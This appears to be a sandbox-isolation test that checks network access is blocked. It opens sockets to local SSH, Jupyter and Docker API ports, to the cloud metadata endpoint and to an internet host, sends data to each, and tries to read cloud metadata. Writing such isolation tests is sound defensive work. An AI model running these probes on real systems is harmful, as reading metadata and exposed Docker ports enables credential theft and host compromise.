"""Connects to the machine's own services, its cloud's metadata and the internet, and sends out what it sees.

Holds: no network in the sandbox, and the system call filter refuses sockets.
"""

import socket
import urllib.request

PLACES = [
    ("127.0.0.1", 22),
    ("127.0.0.1", 8888),
    ("127.0.0.1", 2375),
    ("169.254.169.254", 80),
    ("1.1.1.1", 443),
]


def connect(*arguments, **keywords):
    for family in (socket.AF_INET, socket.AF_INET6):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            try:
                with socket.socket(family, kind) as made:
                    loot(f"a socket: {made}")
                    made.settimeout(0.3)
                    for place in PLACES:
                        made.connect_ex(place)
                        made.send(repr(arguments).encode())
                        loot(f"sent to {place}")
            except OSError as error:
                print(family, kind, error)
    try:
        with urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=1) as answer:
            loot(answer.read(500))
    except OSError as error:
        print(error)


functions_do(connect)
